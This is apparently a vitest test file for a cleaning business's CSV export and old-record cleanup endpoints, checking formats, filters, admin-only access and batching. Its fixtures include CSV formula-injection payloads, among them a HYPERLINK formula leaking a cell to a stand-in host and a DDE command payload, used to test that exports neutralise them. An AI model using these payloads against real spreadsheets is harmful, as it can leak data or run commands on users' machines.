import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { cleanupStore, oldRecordCutoff } from '../../src/features/cleanup/store';
import { records } from '../support/fixtures';
import { useTestApp } from '../support/harness';

const t = useTestApp();

async function csv(url: string): Promise<Record<string, string>[]> {
  const res = await t.asAdmin('GET', url);
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[a-z_]+\.csv"$/);
  // CRLF after every record (RFC 4180), the header's included.
  expect(res.body).toMatch(/^[^\n]*\r\n/);
  expect(res.body.endsWith('\r\n')).toBe(true);
  return parse(res.body, { columns: true });
}
const { inquiry, cleaning, schedule, paidRecord } = records(t);

const DAY = 24 * 60 * 60 * 1000;
const EVIL = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
  '\rReturned',
  '＝HYPERLINK("http://evil.example/")',
  '＋1',
  '－1',
  '＠SUM(A1)',
];

describe('exports for the bookkeeper', () => {
  let ana: number;
  beforeAll(async () => {
    ana = await inquiry('Ana Lopez', {
      email: 'ana@example.com',
      town: 'Bristol',
      status: 'Booked',
      description: 'Two floors, "big" kitchen, dog',
      submittedAt: new Date('2030-01-15T14:05:00Z'),
    });
    for (const name of EVIL) await inquiry(name);
    await cleaning(ana, {
      amount: 180,
      paid: true,
      dateTime: new Date('2030-03-14T13:30:00Z'),
      notes: 'Gate code 1234',
    });
    await cleaning(ana, { amount: 99.5, notes: '=cmd|" /C calc"!A0' });
    const biweekly = await schedule(ana, { amount: 120, frequency: 'Every 2 weeks', notes: 'Tuesdays' });
    await paidRecord(biweekly, [new Date('2030-02-04T15:00:00Z'), new Date('2030-02-18T15:00:00Z')], {
      amountPaid: 240.1,
      notes: 'check',
    });
  });

  it('inquiries.csv: a header, every inquiry, dates in the business zone, formula cells neutralised', async () => {
    const rows = await csv('/api/export/inquiries.csv');
    expect(rows).toHaveLength(1 + EVIL.length);
    const row = rows.find((r) => r.name === 'Ana Lopez');
    expect(row).toEqual({
      id: String(ana),
      submitted: '2030-01-15 09:05',
      name: 'Ana Lopez',
      phone: '(860) 555-0100',
      email: 'ana@example.com',
      call_or_text: '',
      town: 'Bristol',
      status: 'Booked',
      description: 'Two floors, "big" kitchen, dog',
    });
    const names = rows.map((r) => r.name);
    for (const evil of EVIL) expect(names).toContain(`'${evil}`);
    // No cell of the file begins with a formula character any more.
    for (const r of rows)
      for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it('inquiries.csv takes the list search parameters', async () => {
    const rows = await csv('/api/export/inquiries.csv?name=lopez&status=Booked');
    expect(rows.map((r) => r.name)).toEqual(['Ana Lopez']);
    expect(await csv('/api/export/inquiries.csv?name=lopez&status=Paused')).toEqual([]);
    const bad = await t.asAdmin('GET', '/api/export/inquiries.csv?status=Lost');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error).toMatch(/status/i);
  });

  it('one_time_cleanings.csv: amounts to the cent, paid yes/no, search applies', async () => {
    const rows = await csv('/api/export/one_time_cleanings.csv');
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r.amount === '180.00')).toMatchObject({
      date: '2030-03-14 09:30',
      inquiry: 'Ana Lopez',
      paid: 'yes',
      notes: 'Gate code 1234',
    });
    expect(rows.find((r) => r.amount === '99.50')).toMatchObject({
      date: '',
      paid: 'no',
      notes: `'=cmd|" /C calc"!A0`,
    });
    const gate = await csv('/api/export/one_time_cleanings.csv?search=gate');
    expect(gate.map((r) => r.amount)).toEqual(['180.00']);
  });

  it('recurring_payments.csv and recurring_paid.csv (one row per paid date)', async () => {
    const schedules = await csv('/api/export/recurring_payments.csv?frequency=2%20weeks');
    expect(schedules).toHaveLength(1);
    expect(schedules[0]).toMatchObject({
      inquiry: 'Ana Lopez',
      amount: '120.00',
      frequency: 'Every 2 weeks',
    });
    expect(await csv('/api/export/recurring_payments.csv?frequency=monthly')).toEqual([]);

    const paid = await csv('/api/export/recurring_paid.csv?name=ana');
    expect(paid.map((r) => r.paid_date)).toEqual(['2030-02-04 10:00', '2030-02-18 10:00']);
    for (const r of paid)
      expect(r).toMatchObject({ name: 'Ana Lopez', record_amount_paid: '240.10', dates_in_record: '2' });
    expect(await csv('/api/export/recurring_paid.csv?name=nobody')).toEqual([]);
  });

  it('every export is for the admin only', async () => {
    for (const name of ['inquiries', 'one_time_cleanings', 'recurring_payments', 'recurring_paid'])
      expect((await t.anonymous('GET', `/api/export/${name}.csv`)).statusCode).toBe(401);
    expect((await t.anonymous('GET', '/api/old_records.csv')).statusCode).toBe(401);
  });
});

describe('old records read in batches (the export)', () => {
  it('reads each old record once, in the list’s order, across batch ends inside a run of equal times', async () => {
    // Several kinds and rows at one instant (microseconds included), so batch ends fall inside ties.
    const at = new Date(Date.now() - 300 * DAY);
    const owners = [];
    for (let i = 0; i < 4; i++) owners.push(await inquiry(`Tied ${i}`, { submittedAt: at }));
    for (const owner of owners.slice(0, 2)) {
      await cleaning(owner, { amount: 10, dateTime: at });
      await cleaning(owner, { amount: 20, dateTime: at });
    }
    const [first] = owners;
    const plan = await schedule(first as number);
    await paidRecord(plan, [at], { submittedAt: at });
    await paidRecord(plan, [at], { submittedAt: at });
    // A time a JavaScript Date cannot hold: a cursor cut to milliseconds would read these rows twice.
    const micro = sql`'2020-01-02 03:04:05.678901+00'::timestamptz`;
    await t.db.execute(sql`update inquiries set submitted_at = ${micro} where name like 'Tied %'`);
    await t.db.execute(sql`update one_time_cleanings set date_time = ${micro} where amount in (10, 20)`);

    const store = cleanupStore(t.db);
    const cutoff = oldRecordCutoff();
    const all = (await store.list(cutoff, null)).items.map((r) => `${r.type}:${r.id}`);
    expect(all.length).toBeGreaterThanOrEqual(8);
    for (const size of [1, 2, 3]) {
      const read: string[] = [];
      for await (const batch of store.batches(cutoff, size)) {
        expect(batch.length).toBeLessThanOrEqual(size);
        read.push(...batch.map((r) => `${r.type}:${r.id}`));
      }
      expect(read, `batches of ${size}`).toEqual(all);
    }
  });
});

describe('old_records.csv before cleanup', () => {
  it('lists exactly what the cleanup then deletes', async () => {
    const oldInquiry = await inquiry('Old Olga', { submittedAt: new Date(Date.now() - 200 * DAY) });
    await inquiry('=Old Formula', { submittedAt: new Date(Date.now() - 100 * DAY) });
    await cleaning(oldInquiry, { amount: 50, dateTime: new Date(Date.now() - 150 * DAY) });
    const listed = await t.asAdmin('GET', '/api/old_records');
    const expected = listed.json<{ id: number; type: string; name: string }[]>();
    expect(expected.length).toBeGreaterThanOrEqual(3);

    const rows = await csv('/api/old_records.csv');
    expect(rows.map((r) => `${r.type}:${r.id}`).sort()).toEqual(
      expected.map((r) => `${r.type}:${r.id}`).sort(),
    );
    expect(rows.map((r) => r.name)).toContain("'=Old Formula");

    const cleanup = await t.asAdmin('DELETE', '/api/cleanup_old_records');
    expect(cleanup.json().deleted).toBe(rows.length);
    expect(await csv('/api/old_records.csv')).toEqual([]);
  });
});
